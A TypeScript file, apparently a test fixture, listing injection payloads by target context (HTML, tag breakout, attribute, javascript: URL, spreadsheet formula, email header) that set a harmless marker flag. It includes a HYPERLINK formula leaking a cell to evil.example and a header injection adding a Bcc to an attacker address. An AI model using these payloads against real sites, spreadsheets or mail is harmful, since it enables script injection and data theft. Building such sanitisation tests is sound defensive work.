/** What the markup in the texts below would leave on `window` and on its elements. */
export const mark = 'hostile';

/**
 * Texts that would do something if a place took them for more than text, by what they try. Those for the same kind of place
 * are joined, because a page is read once for each.
 */
export const hostileTexts = {
  'markup in a text': `"><img src=x data-${mark} onerror=top.${mark}=1>{{7*7}}`,
  'the end of an element': `</script></title></textarea><script data-${mark}>top.${mark}=1</script>]]>`,
  'an attribute': `' onfocus=top.${mark}=1 autofocus data-${mark}='\`-\${top.${mark}=1}`,
  'an address': `javascript:top.${mark}=1//https://directory.example/`,
  'a formula': `=HYPERLINK("https://evil.example/?"&A1,"here")`,
  'a header of an email': `Prices\r\nBcc: eve@evil.example\r\n\r\n<b data-${mark}>`,
} as const;
